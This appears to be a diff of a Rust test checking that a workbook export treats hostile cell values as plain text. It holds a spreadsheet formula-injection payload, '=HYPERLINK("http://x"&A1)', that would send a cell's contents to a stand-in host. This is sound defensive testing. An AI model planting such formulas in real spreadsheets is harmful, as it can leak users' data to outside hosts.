@@ -1,6 +1,6 @@
 //! Deciding in a workbook: exported, answered, bent in every way that somebody could, imported.
 
-use crate::transition::{Said, Transition, columns, fixtures};
+use crate::transition::{Said, Transition, columns, files, fixtures};
 use calamine::{Data, Reader as _, open_workbook_auto};
 use serde_json::Value;
 use std::collections::BTreeMap;
@@ -347,24 +347,22 @@ fn a_repair_is_accepted_or_refused() {
 }
 
 #[test]
-fn hostile_cells_are_text_and_nothing_that_is_said_quotes_them() {
-    let clinic = Transition::copy_of(&fixtures().join(TWINS));
-    let table = fs::read_to_string(clinic.path().join("sources/clinic.csv")).expect("text");
-    let (header, row) = table.split_once('\n').expect("lines");
-    let family = "=HYPERLINK(\"\"http://x\"\"&A1)";
-    let fields: Vec<&str> = row.trim_end().split(',').collect();
-    let place = header.to_lowercase().split(',').position(|title| title.contains("surname")).expect("a surname");
-    let mut cells = fields.clone();
-    let hostile = format!("\"{family}\"");
-    cells[place] = &hostile;
-    clinic.write("sources/clinic.csv", &format!("{header}\n{}\n", cells.join(",")));
-    assert_eq!(clinic.handover(&["run", "--quiet"]).code, 0);
-    assert_eq!(clinic.handover(&["review", "export", "ask.xlsx"]).code, 0);
+fn hostile_cells_are_text() {
+    let twins = Transition::copy_of(&fixtures().join(TWINS));
+    let sources = files(&twins.path().join("sources"));
+    assert_eq!(sources.len(), 2);
+    for name in sources.keys() {
+        twins.edit(&format!("sources/{name}"), "Quillfeather", "\"=HYPERLINK(\"\"http://x\"\"&A1)_x0041_<b>\"");
+    }
+    assert_eq!(twins.handover(&["run", "--quiet"]).code, 0);
+    assert_eq!(twins.handover(&["review", "export", "ask.xlsx", "--queue", "pairs"]).code, 0);
     // `read` holds every cell to being a text.
-    let sheets = read(&clinic.path().join("ask.xlsx"));
-    assert!(sheets.iter().any(|(name, _)| name == "Read me"));
-    let sheet = zip_entry(&clinic.path().join("ask.xlsx"), "xl/worksheets/sheet2.xml");
-    assert!(!sheet.contains("<f>") && sheet.contains("sheetProtection"), "no formula; locked");
+    let mut sheets = read(&twins.path().join("ask.xlsx"));
+    let family = sheet(&mut sheets, "Pairs")[1][6].to_lowercase();
+    assert_eq!(family, "=hyperlink(\"http://x\"&a1)_x0041_<b>");
+    let xml = zip_entry(&twins.path().join("ask.xlsx"), "xl/worksheets/sheet2.xml");
+    assert!(!xml.contains("<f>") && xml.contains("sheetProtection") && xml.contains("dataValidation"), "locked");
+    assert_eq!(import(&twins, |sheets| sheet(sheets, "Pairs")[1][ANSWER] = "same".into(), &[]).code, 0);
 }
 
 #[test]
